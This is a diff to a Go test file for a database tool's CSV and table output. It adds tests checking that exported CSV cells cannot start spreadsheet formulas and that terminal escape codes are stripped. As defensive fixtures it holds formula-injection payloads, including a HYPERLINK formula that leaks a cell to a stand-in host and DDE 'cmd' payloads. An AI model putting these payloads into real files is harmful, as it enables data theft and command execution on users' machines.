@@ -5,8 +5,10 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"flag"
+	"math"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -141,7 +143,7 @@ func TestDuration(t *testing.T) {
 		d    time.Duration
 		want string
 	}{
-		{-time.Second, "0s"},
+		{-time.Second, "?"},
 		{0, "0ms"},
 		{850 * time.Millisecond, "850ms"},
 		{7391022 * time.Microsecond, "7.4s"},
@@ -149,10 +151,108 @@ func TestDuration(t *testing.T) {
 		{3*time.Minute + 12*time.Second, "3m12s"},
 		{2*time.Hour + 5*time.Minute, "2h05m"},
 		{76 * time.Hour, "3d4h"},
+		{150 * 24 * time.Hour, "150d"},
+		{5 * 365 * 24 * time.Hour, "5y"},
+		{math.MaxInt64, ">100y"},
 	}
 	for _, tt := range tests {
 		if got := Duration(tt.d); got != tt.want {
 			t.Errorf("Duration(%v) = %q, want %q", tt.d, got, tt.want)
 		}
+	}
+}
+
+// Any client chooses its own appName (and user, namespace, …): no such text may become a live
+// formula in a spreadsheet. Plain numbers stay numbers.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	hostile := []string{
+		`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
+		`+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		`-2+3`,
+		"\t=1+1",
+		"\r=1+1",
+		"\n=1+1",
+		"＝1+1",
+		"-",
+		"+",
+		"-Infinity",
+		"-NaN",
+		"-0x1p3",
+	}
+	for _, app := range hostile {
+		snap := designSnapshot()
+		s := &snap.Sessions[0]
+		s.App, s.User, s.NS, s.Desc, s.Op, s.ID = app, app, app, app, app, app
+		snap.Clients[0].Apps = []string{app, "ok"}
+		snap.Clients[0].IP = app
+		for _, pane := range []string{"sessions", "clients"} {
+			var buf bytes.Buffer
+			if err := Write(&buf, "csv", pane, snap); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(&buf).ReadAll()
+			if err != nil {
+				t.Fatalf("%q: not valid CSV: %v", app, err)
+			}
+			if len(rows) != 2 {
+				t.Fatalf("%q: %d rows", app, len(rows))
+			}
+			for i, cell := range rows[1] {
+				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !plainNumber(cell) {
+					t.Errorf("%s %q: column %s = %q can start a formula", pane, app, rows[0][i], cell)
+				}
+			}
+			if want := "'" + app; !slices.Contains(rows[1], want) && !slices.Contains(rows[1], want+"|ok") {
+				t.Errorf("%s %q: no cell is the text with a leading quote: %q", pane, app, rows[1])
+			}
+		}
+	}
+}
+
+func TestCSVKeepsPlainNumbers(t *testing.T) {
+	for _, n := range []string{"-5", "3.2", "+7", "-0.5", "-1e5", "-.5", "0", "-9223372036854775808", "-1e400"} {
+		if got := csvSafe(n); got != n {
+			t.Errorf("csvSafe(%q) = %q, want it unchanged", n, got)
+		}
+	}
+	for _, s := range []string{"=1", "-2+3", "-", "@x", "+cmd", "-inf", "-1e5x", "--5", "-1_000"} {
+		if got := csvSafe(s); got != "'"+s {
+			t.Errorf("csvSafe(%q) = %q, want it quoted", s, got)
+		}
+	}
+	snap := designSnapshot()
+	snap.Sessions[0].NumYields = -5 // a server's odd value is a number, not text to neutralise
+	var buf bytes.Buffer
+	if err := Write(&buf, "csv", "sessions", snap); err != nil {
+		t.Fatal(err)
+	}
+	rows, _ := csv.NewReader(&buf).ReadAll()
+	if got := rows[1][16]; got != "-5" {
+		t.Errorf("num_yields = %q, want -5", got)
+	}
+}
+
+// The table cleans every text (no control character, no tab breaking the columns) and shows a
+// saturated running time.
+func TestTableCleansAndSaturates(t *testing.T) {
+	snap := designSnapshot()
+	snap.Target = "mongodb://db1/\x1b]0;title\x07"
+	snap.Warnings = []string{"partial\x1b[2J"}
+	s := &snap.Sessions[0]
+	s.App, s.NS, s.RunningUS = "evil\tapp\x1b[31m", "shop.\u200borders", math.MaxInt64
+	snap.Clients[0].Apps = []string{"a\x07pp"}
+	var buf bytes.Buffer
+	if err := Write(&buf, "table", "all", snap); err != nil {
+		t.Fatal(err)
+	}
+	out := buf.String()
+	for _, r := range out {
+		if (r < 0x20 && r != '\n') || r == 0x7f || r == 0x200b {
+			t.Fatalf("table keeps %U:\n%s", r, out)
+		}
+	}
+	if !strings.Contains(out, ">100y") || !strings.Contains(out, "shop.\uFFFDorders") {
+		t.Errorf("table:\n%s", out)
 	}
 }
